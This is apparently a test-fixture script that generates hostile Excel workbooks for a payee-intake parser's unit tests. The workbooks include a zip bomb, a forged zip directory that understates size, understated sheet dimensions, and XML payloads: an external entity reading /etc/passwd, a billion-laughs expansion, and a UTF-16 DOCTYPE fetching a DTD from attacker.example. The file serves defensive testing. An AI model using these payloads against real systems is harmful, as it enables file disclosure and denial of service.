"""Writes the hostile workbooks of tests/unit/test_hostile_workbooks.py (deterministic; run to rebuild).

Each is a small valid payee workbook (openpyxl's output, timestamps pinned) with one part altered the
way an attacker or a broken exporter would alter it; README.md in this folder says what each one is.
    PYTHONPATH=. .venv/bin/python tests/data/intake/make_hostile.py      # the committed files
    PYTHONPATH=. .venv/bin/python tests/data/intake/make_hostile.py --bomb-mb 629 --out /tmp  # the issue's bomb
"""

from __future__ import annotations

import argparse
import io
import re
import struct
import zipfile
from pathlib import Path

import openpyxl
from make_files import HEADER, row  # same folder: the payee rows every bad-input file is made of

HERE = Path(__file__).resolve().parent
COLUMNS = [*HEADER, "insured_id", "share_percent"]  # eleven columns, A to K, as the branch systems send
SHEET = "xl/worksheets/sheet1.xml"
PIN = (2026, 11, 1, 0, 0, 0)


def workbook(rows: int) -> dict[str, bytes]:
    """The parts of a payee workbook of `rows` data rows, by name, in openpyxl's order."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "payees"
    ws.append(COLUMNS)
    for i in range(1, rows + 1):
        ws.append([*row(i), "", ""])
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(buf)
    parts = {}
    for item in src.infolist():
        data = src.read(item.filename)
        if item.filename == "docProps/core.xml":  # pinned, so the file is rebuilt byte for byte
            data = re.sub(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*", rb"\g<1>2026-11-01T00:00:00Z", data)
        parts[item.filename] = data
    return parts


def pack(parts: dict[str, bytes], big: tuple[str, bytes, bytes, int] | None = None) -> bytes:
    """A deflated zip of `parts`; `big` = (name, head, tail, pad_bytes): that member is head, then
    pad_bytes spaces, then tail, streamed in so the generator never holds it whole."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=PIN)
            info.compress_type = zipfile.ZIP_DEFLATED
            if big is not None and name == big[0]:
                _, head, tail, pad = big
                with z.open(info, "w") as f:
                    f.write(head)
                    block = b" " * (1 << 20)
                    for _ in range(pad // len(block)):
                        f.write(block)
                    f.write(b" " * (pad % len(block)))
                    f.write(tail)
            else:
                z.writestr(info, data, compresslevel=9)
    return out.getvalue()


def bomb(mb: int) -> bytes:
    """Two payees, then `mb` MB of blanks between the last row and </sheetData>: well-formed, and
    deflate packs it about 1000:1."""
    parts = workbook(2)
    head, tail = parts[SHEET].split(b"</sheetData>")
    return pack(parts, (SHEET, head, b"</sheetData>" + tail, mb * 1024**2))


def lying_directory(data: bytes, name: str, claimed: int) -> bytes:
    """The same archive with `name`'s uncompressed size given as `claimed` in both its local header
    and the central directory: a reader that trusts the directory thinks the member is small."""
    z = zipfile.ZipFile(io.BytesIO(data))
    info = z.getinfo(name)
    out = bytearray(data)
    # local header: the uncompressed size is at offset 22; central directory entry: at offset 24
    local = info.header_offset
    assert out[local:local + 4] == b"PK\x03\x04"
    struct.pack_into("<I", out, local + 22, claimed)
    central = out.index(b"PK\x01\x02", z.start_dir)  # type: ignore[attr-defined]
    while out[central + 46:central + 46 + len(name)] != name.encode():
        central = out.index(b"PK\x01\x02", central + 4)
    struct.pack_into("<I", out, central + 24, claimed)
    return bytes(out)


def dimension(parts: dict[str, bytes], ref: str) -> dict[str, bytes]:
    sheet = re.sub(rb'<dimension ref="[^"]*"/>', f'<dimension ref="{ref}"/>'.encode(), parts[SHEET])
    return {**parts, SHEET: sheet}


def with_doctype(parts: dict[str, bytes], name: str, doctype: bytes) -> dict[str, bytes]:
    """`doctype` right after the XML declaration of part `name` (the document type comes first)."""
    data = parts[name]
    if data.startswith(b"<?xml"):
        end = data.index(b"?>") + 2
        data = data[:end] + doctype + data[end:]
    else:
        data = doctype + data
    return {**parts, name: data}


BILLION_LAUGHS = (b'<!DOCTYPE workbook [<!ENTITY lol "lol">'
                  + b"".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
                             for i in range(1, 10))
                  + b"]>")


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--bomb-mb", type=int, default=100)
    ap.add_argument("--out", type=Path, default=HERE)
    args = ap.parse_args()
    out: Path = args.out

    big = bomb(args.bomb_mb)
    (out / "bomb.xlsx").write_bytes(big)
    if args.out != HERE:  # only the bomb is made elsewhere (for measuring)
        return
    # the directory says the sheet is 150 KB; it inflates to 100 MB all the same
    (out / "bomb_lying_directory.xlsx").write_bytes(lying_directory(big, SHEET, 150_000))

    payees = workbook(258)
    (out / "dimension_understated.xlsx").write_bytes(pack(dimension(payees, "A1:K100")))
    (out / "dimension_a1.xlsx").write_bytes(pack(dimension(payees, "A1")))

    small = workbook(3)
    xxe = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    sheet = small[SHEET].replace(b"<t>P00001</t>", b"<t>&xxe;</t>", 1)
    (out / "doctype_external_entity.xlsx").write_bytes(pack(with_doctype({**small, SHEET: sheet}, SHEET, xxe)))
    laughs = small["xl/workbook.xml"].replace(b'name="payees"', b'name="&lol9;"', 1)
    (out / "doctype_billion_laughs.xlsx").write_bytes(
        pack(with_doctype({**small, "xl/workbook.xml": laughs}, "xl/workbook.xml", BILLION_LAUGHS)))
    (out / "doctype_content_types.xlsx").write_bytes(
        pack(with_doctype(small, "[Content_Types].xml", b"<!DOCTYPE Types>")))
    # the same declaration in UTF-16, which a byte search for "<!DOCTYPE" would miss
    styles = small["xl/styles.xml"].decode()
    styles16 = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE styleSheet SYSTEM "http://attacker.example/x.dtd">'
                + re.sub(r"^<\?xml[^>]*\?>", "", styles)).encode("utf-16")
    (out / "doctype_utf16_styles.xlsx").write_bytes(pack({**small, "xl/styles.xml": styles16}))


if __name__ == "__main__":
    main()
